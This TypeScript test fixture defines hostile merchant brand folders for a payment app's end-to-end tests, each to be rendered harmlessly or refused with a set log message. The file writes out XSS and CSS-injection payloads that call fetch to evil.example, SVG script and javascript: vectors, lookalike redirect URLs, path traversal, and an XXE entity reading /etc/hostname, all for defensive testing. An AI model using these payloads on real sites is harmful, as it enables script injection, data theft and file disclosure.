import type { BrandFolders } from '#e2e/support/app/brands-folder.ts';

/** What an enemy might put into a folder: settings as JSON would hold them, and files. */
export type HostileBrand = {
  readonly settings: Readonly<Record<string, unknown>>;
  readonly files?: Readonly<Record<string, string | Uint8Array>>;
};

type RefusedBrand = HostileBrand & { readonly says: RegExp };

/** Sets a mark that the journeys look for, and calls a host that they do not know. */
const RUN = "window.intruded=1;fetch('https://evil.example/stolen')";

const OUT_OF_STYLE = `</style><script>${RUN}</script>`;
const OUT_OF_ATTRIBUTE = `"><img src=x onerror="${RUN}">`;
const OUT_OF_RULE =
  "red}*{display:none}@import'https://evil.example/x.css';a{b:url(//evil.example)";

/** Strings that would be code anywhere else. All of them are plain text, so these brands are valid. */
const HOSTILE_TEXTS = {
  name: `Ev<b>il ${OUT_OF_STYLE.slice(0, 40)}`,
  heading: `${OUT_OF_RULE.slice(0, 80)}`,
  note: `${OUT_OF_STYLE} ${OUT_OF_ATTRIBUTE} {{constructor}} \${alert(1)} javascript:alert(1)`,
};

/** What an SVG can do beside being a picture; each must be refused for what the pattern says. */
const HOSTILE_DRAWINGS: Readonly<Record<string, readonly [body: string, says: RegExp]>> = {
  script: [`<script>${RUN}</script>`, /<script>/],
  onload: [`<rect width="9" height="9" onload="${RUN}"/>`, /runs a script/],
  foreign: [
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/></foreignObject>`,
    /foreignObject|<iframe>/,
  ],
  scriptlinked: [
    `<a href="javascript:${RUN}"><rect width="9" height="9"/></a>`,
    /refers to|runs a script/,
  ],
  elsewhere: [
    '<image href="https://evil.example/x.png" width="9" height="9"/>',
    /refers to something else/,
  ],
  imported: ["<style>@import url('https://evil.example/x.css');</style>", /import/],
  filled: ['<rect width="9" height="9" fill="url(https://evil.example/x.svg#y)"/>', /url|refers/],
  moving: [
    `<rect width="9" height="9"><set attributeName="href" to="javascript:${RUN}"/></rect>`,
    /<set>/,
  ],
};

const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40"><title>${'&lt;/style&gt;&lt;script&gt;'}</title><rect width="120" height="40" fill="#117733"/></svg>`;

/** These are taken in, and can do nothing. */
export const TAKEN_IN = {
  texts: {
    settings: {
      name: HOSTILE_TEXTS.name,
      legalName: `Legal ${OUT_OF_STYLE}`,
      texts: {
        en: {
          heading: HOSTILE_TEXTS.heading,
          note: HOSTILE_TEXTS.note,
          afterPayment: HOSTILE_TEXTS.note,
          endedLink: HOSTILE_TEXTS.note,
          supportHours: OUT_OF_ATTRIBUTE,
        },
      },
    },
  },
  drawing: {
    settings: { name: 'Drawing', logo: { light: 'logo.svg' } },
    files: { 'logo.svg': DRAWING },
  },
} as const satisfies Record<string, HostileBrand>;

/** These are refused, each for what the log must say of it. */
export const REFUSED: Readonly<Record<string, RefusedBrand>> = {
  ...Object.fromEntries(
    Object.entries(HOSTILE_DRAWINGS).map(([name, [body, says]]) => [
      `drawing-${name}`,
      drawn(body, says),
    ]),
  ),
  turned: { settings: { name: 'Pay\u202Elap' }, says: /name: .*turns the writing direction/ },
  unseen: { settings: { name: 'Pay\u200BPal' }, says: /name: .*invisible/ },
  scriptlink: {
    settings: { name: 'Refused', policies: { terms: `javascript:${RUN}` } },
    says: /policies\.terms/,
  },
  datalink: {
    settings: { name: 'Refused', support: { site: `data:text/html,<script>${RUN}</script>` } },
    says: /support\.site/,
  },
  lookalike: {
    settings: {
      name: 'Refused',
      return: {
        allowedOrigins: ['https://shop.example'],
        afterPayment: 'https://shop.example.evil.example/thanks',
      },
    },
    says: /return\.afterPayment: .*shop\.example\.evil\.example/,
  },
  userinfo: {
    settings: {
      name: 'Refused',
      return: {
        allowedOrigins: ['https://shop.example'],
        onGivingUp: 'https://shop.example@evil.example/',
      },
    },
    says: /return\.onGivingUp/,
  },
  colour: {
    settings: { name: 'Refused', colors: { light: { accent: OUT_OF_RULE } } },
    says: /colors\.light\.accent: must be a colour/,
  },
  style: {
    settings: { name: 'Refused', font: `x;}${OUT_OF_STYLE}` },
    says: /font/,
  },
  traversal: {
    settings: { name: 'Refused', logo: { light: '../good/logo.svg' } },
    says: /logo\.light: must name a file/,
  },
  filename: {
    settings: { name: 'Refused', logo: { light: '"><svg onload=alert(1)>.svg' } },
    says: /logo\.light: must name a file/,
  },
  huge: {
    settings: { name: 'Refused', logo: { light: 'logo.png' } },
    files: { 'logo.png': new Uint8Array(5_000_000) },
    says: /logo\.light: .*is not an SVG, PNG, JPEG or WebP/,
  },
  pretender: {
    settings: { name: 'Refused', logo: { light: 'logo.png' } },
    files: { 'logo.png': `<!doctype html><script>${RUN}</script>` },
    says: /logo\.light/,
  },
  entities: {
    settings: { name: 'Refused', logo: { light: 'logo.svg' } },
    files: {
      'logo.svg':
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>',
    },
    says: /logo\.light/,
  },
  unknown: {
    settings: { name: 'Refused', css: 'body{display:none}' },
    says: /css/,
  },
};

function drawn(body: string, says: RegExp): RefusedBrand {
  return {
    settings: { name: 'Refused', logo: { light: 'logo.svg' } },
    files: {
      'logo.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">${body}</svg>`,
    },
    says,
  };
}

/** As folders for the app; each brand is that of the merchant `merchantOf(id)`. */
export function listFolders(): BrandFolders {
  return Object.fromEntries(
    Object.entries<HostileBrand>({ ...TAKEN_IN, ...REFUSED }).map(([id, { settings, files }]) => {
      const match = { merchantIds: [merchantOf(id)] };
      return [id, { 'brand.json': { ...settings, match }, ...files }];
    }),
  );
}

export function merchantOf(id: string): string {
  return `hostile${id}`.padEnd(22, '0');
}
